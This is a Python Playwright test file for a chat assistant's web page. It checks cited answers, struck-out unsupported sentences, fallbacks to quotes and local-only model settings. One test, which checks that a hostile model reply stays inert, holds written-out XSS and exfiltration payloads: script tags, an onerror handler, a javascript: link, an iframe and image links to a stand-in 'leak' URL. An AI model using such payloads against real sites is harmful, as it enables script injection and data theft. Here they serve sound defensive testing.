"""Answers that a chat model writes, on the page: as they come, what became of each sentence, and what is shown when it
fails."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect

from assistant.prompts import REFUSAL
from assistant.settings import load_settings
from assistant.wiring import index_sources
from tests.assistant.written.scripted import QUESTIONS, SECRET, replies, write_library
from tests.browser.test_hostile import unwanted
from tests.browser.visits import Visit
from tests.chatserver import ChatServer
from tests.ui.libraries import page_of

pytestmark = pytest.mark.browser

TRUE, FALSE = "{true}", "In 2018, 430 companies took part [{welding}]."
PARTLY = (
    "The circles were launched in 2014 by the college of Zwolle, and the king of Spain visited them afterwards"
    " [{welding}]."
)
SETTINGS = "[chat]\nretries = 0\npreparation = false\nseconds = 40\nfirst_seconds = 6\nchunk_seconds = 6\nat_once = 1\n"


@pytest.fixture(scope="module")
def server() -> Iterator[ChatServer]:
    with ChatServer().running() as server:
        yield server


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("written")
    settings = load_settings({}, folder / "home")
    index_sources(settings, [write_library(folder / "documents")])
    (settings.home / "vet-assistant.toml").write_text(SETTINGS, "utf-8")
    return settings.home


@pytest.fixture(scope="module")
def address(home: Path, server: ChatServer) -> Iterator[str]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VET_CHAT_MODEL", "openai:scripted")
        patch.setenv("VET_CHAT_BASE_URL", server.address)
        patch.setenv("VET_CHAT_API_KEY", SECRET)
        with page_of(home) as address:
            yield address


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    visit = Visit(browser, address)
    yield visit
    assert SECRET not in visit.page.content()
    assert unwanted(visit.page) == []
    visit.close()
    assert visit.elsewhere == []
    assert visit.dialogs == []


def play(server: ChatServer, *events: dict[str, Any]) -> None:
    server.play(*replies({"reply": {"events": list(events)}}, ""))


def asked(visit: Visit, server: ChatServer, text: str, question: str = QUESTIONS["welding"]) -> Page:
    """The page after a question that a model answers with a text."""
    play(server, {"say": text})
    visit.open(f"/?lang=en&q={quote(question)}")
    expect(visit.page.locator(".vet-status")).to_be_visible(timeout=20_000)
    visit.settle()
    return visit.page


def test_a_supported_answer_cites_quotes_that_stand_beside_it(visit: Visit, server: ChatServer) -> None:
    page = asked(visit, server, f"{TRUE} Companies pay half of the yearly budget [{{welding}}].")
    expect(page.locator(".vet-writing")).to_have_count(1)
    expect(page.locator(".vet-writing > span:not(.vet-tag)")).to_have_count(2)
    expect(page.locator(".vet-doubts")).to_have_count(0)
    expect(page.locator(".vet-source mark").first).to_contain_text("over 230 companies")
    mark = page.locator(".vet-writing a.vet-mark").first
    mark.click()
    expect(page.locator(str(mark.get_attribute("href")))).to_be_in_viewport()
    expect(page.locator("main")).to_contain_text("openai:scripted")
    expect(page.locator(".vet-status")).to_contain_text("Answered")
    expect(page.locator(".vet-sure")).to_have_text("Every sentence is borne out by its source")
    visit.picture("written-supported")


def test_what_is_not_borne_out_is_struck_out_with_the_reason(visit: Visit, server: ChatServer) -> None:
    page = asked(visit, server, f"{TRUE} {FALSE} {PARTLY}")
    expect(page.locator("del.vet-unsupported")).to_have_text("In 2018, 430 companies took part.")
    expect(page.locator(".vet-half")).to_contain_text("king of Spain")
    expect(page.locator(".vet-status")).to_contain_text("In part")
    expect(page.locator(".vet-sure")).to_have_text("Borne out by their sources: 1 of 3 sentences")
    page.locator(".vet-doubts summary").click()
    expect(page.locator(".vet-differences").first).to_contain_text("230")
    visit.picture("written-doubted")


def test_when_nothing_is_borne_out_quotes_are_shown_with_a_line(visit: Visit, server: ChatServer) -> None:
    page = asked(visit, server, FALSE)
    expect(page.locator("main")).to_contain_text("You see quotes instead.")
    expect(page.locator("main")).not_to_contain_text("430")
    expect(page.locator(".vet-writing")).to_have_count(0)
    visit.picture("written-fallback")
    page = asked(visit, server, REFUSAL)
    expect(page.locator("main")).to_contain_text("found no answer")


def test_sentences_are_seen_as_they_come_and_once_only(visit: Visit, server: ChatServer) -> None:
    play(server, {"say": f"{TRUE} The c"}, {"wait": 2}, {"say": "ircles were launched in 2014 [{welding}]."})
    visit.open(f"/?lang=en&q={quote(QUESTIONS['welding'])}")
    expect(visit.page.locator(".vet-writing")).to_contain_text("230 companies", timeout=15_000)
    expect(visit.page.locator(".vet-writing")).not_to_contain_text("launched")
    expect(visit.page.locator(".vet-status")).to_have_count(0)
    expect(visit.page.locator(".vet-writing")).to_contain_text("launched in 2014", timeout=15_000)
    visit.settle()
    expect(visit.page.locator(".vet-writing")).to_have_count(1)


def test_a_slow_model_gives_way_to_quotes_and_a_cut_one_keeps_what_it_said(visit: Visit, server: ChatServer) -> None:
    play(server, {"wait": 9})
    visit.open(f"/?lang=en&q={quote(QUESTIONS['sauna'])}")
    expect(visit.page.locator("main")).to_contain_text("took too long", timeout=15_000)
    expect(visit.page.locator("main")).to_contain_text("four days a week")
    play(server, {"say": f"{TRUE} Later 4"}, {"cut": True})
    visit.ask(QUESTIONS["welding"])
    expect(visit.page.locator(".vet-writing")).to_have_text(
        "In 2018 more than 230 companies took part in the welding circles. [1]"
    )
    expect(visit.page.locator("main")).to_contain_text("broke off")


def test_a_hostile_model_moves_nothing(visit: Visit, server: ChatServer) -> None:
    evil = "http://127.0.0.1:9/leak?q=companies"
    page = asked(
        visit, server,
        f"![x]({evil}) {TRUE} <img src='{evil}' onerror='alert(1)'><script>alert(2)</script> [more]({evil})"
        f" </p><iframe src='{evil}'></iframe> [run](javascript:alert(3)) :material/home: $\\href{{{evil}}}{{x}}$",
    )  # fmt: skip
    expect(page.locator(".vet-written")).to_contain_text("230 companies")
    expect(page.locator(".vet-written")).not_to_contain_text("127.0.0.1")
    visit.picture("written-hostile")


def test_a_visitor_may_have_quotes_alone_even_while_it_is_written(visit: Visit, server: ChatServer) -> None:
    play(server, {"say": f"{TRUE} In 2"}, {"wait": 5}, {"say": f"018. {FALSE}"})
    visit.open(f"/?lang=en&q={quote(QUESTIONS['welding'])}")
    expect(visit.page.locator(".vet-writing")).to_be_visible(timeout=15_000)
    visit.page.get_by_text("Write answers with a chat model").click()
    expect(visit.page.locator(".vet-status")).to_be_visible(timeout=4_000)
    expect(visit.page.locator("blockquote").first).to_be_visible()
    expect(visit.page.locator(".vet-writing")).to_have_count(0)
    expect(visit.page.locator("main")).to_contain_text("nothing leaves this machine")
    # The model is free again at once, though only one may ask it.
    play(server, {"say": TRUE})
    visit.page.get_by_text("Write answers with a chat model").click()
    expect(visit.page.locator(".vet-writing")).to_contain_text("230", timeout=10_000)


def test_a_question_left_while_it_was_answered_is_not_lost(visit: Visit, server: ChatServer) -> None:
    play(server, {"say": TRUE})
    asked(visit, server, TRUE)
    play(server, {"say": f"{TRUE} In 2"}, {"wait": 5})
    field = visit.page.get_by_label("Your question")
    field.fill(QUESTIONS["objectives"])
    field.press("Enter")
    expect(visit.page.locator(".vet-writing")).to_be_visible(timeout=10_000)
    visit.page.wait_for_timeout(600)
    play(server, {"say": "Apprentices spend four days a week with a company [{sauna}]."})
    field.fill(QUESTIONS["sauna"])
    field.press("Enter")
    expect(visit.page.locator("h2.vet-question")).to_have_text(QUESTIONS["sauna"], timeout=15_000)
    expect(visit.page.locator(".vet-written").first).to_contain_text("four days")
    visit.settle()
    labels = visit.page.locator("[data-testid=stExpander] summary")
    expect(labels.filter(has_text="objectives")).to_have_count(1)
    labels.filter(has_text="How many companies").click()
    expect(visit.page.locator(".vet-written")).to_have_count(2)


def test_a_translated_quote_is_labelled_as_the_models(visit: Visit, server: ChatServer) -> None:
    told = (
        "In timber building students learn in a company three days a week. The course began in 2021 with 17 companies."
    )
    server.play(
        *replies({"say": "In timber construction the course began in 2021 with 17 companies in Drenthe [{hout}]."}, ""),
        {"events": [{"say": f"1: {told}"}]},
    )
    visit.open(f"/?lang=en&q={quote(QUESTIONS['english-hout'])}")
    expect(visit.page.locator(".vet-written")).to_be_visible(timeout=20_000)
    visit.settle()
    expect(visit.page.locator(".vet-translation[lang=en]")).to_contain_text("17 companies")
    expect(visit.page.locator(".vet-translation small")).to_contain_text("Translated by openai:scripted")
    expect(visit.page.locator(".vet-source [lang=nl]").first).to_be_visible()
    visit.picture("written-translated")


def test_a_model_outside_is_refused_where_only_local_ones_are_allowed(browser: Browser, home: Path) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VET_CHAT_MODEL", "openai:scripted")
        patch.setenv("VET_CHAT_BASE_URL", "https://models.example.org/v1")
        patch.setenv("VET_CHAT_LOCAL_ONLY", "1")
        with page_of(home) as address:
            visit = Visit(browser, address)
            visit.open(f"/?lang=en&q={quote(QUESTIONS['welding'])}")
            expect(visit.page.locator(".vet-status")).to_be_visible(timeout=20_000)
            expect(visit.page.locator("main")).to_contain_text("Only local models are allowed here")
            expect(visit.page.locator("blockquote", has_text="230 companies").first).to_be_visible()
            visit.close()
            assert visit.elsewhere == []
